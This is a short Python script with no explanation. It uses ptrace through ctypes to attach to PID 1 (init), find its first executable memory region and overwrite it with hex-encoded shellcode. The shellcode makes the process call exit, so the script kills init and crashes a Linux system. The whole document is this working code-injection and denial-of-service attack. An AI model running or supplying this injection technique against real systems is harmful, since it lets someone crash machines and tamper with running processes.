import ctypes

libc = ctypes.CDLL("libc.so.6", use_errno=True)
PTRACE_ATTACH, PTRACE_POKETEXT, PTRACE_DETACH = 16, 4, 17
code = bytes.fromhex("4831c04831ff48ffc0b03c0f05909090")
target = 1
libc.ptrace(PTRACE_ATTACH, target, 0, 0)
libc.waitpid(target, 0, 0)
with open("/proc/%d/maps" % target) as maps:
    start = next(int(line.split("-")[0], 16) for line in maps if " r-xp " in line)
for at in range(0, len(code), 8):
    libc.ptrace(PTRACE_POKETEXT, target, ctypes.c_void_p(start + at), ctypes.c_void_p(int.from_bytes(code[at : at + 8], "little")))
libc.ptrace(PTRACE_DETACH, target, 0, 0)
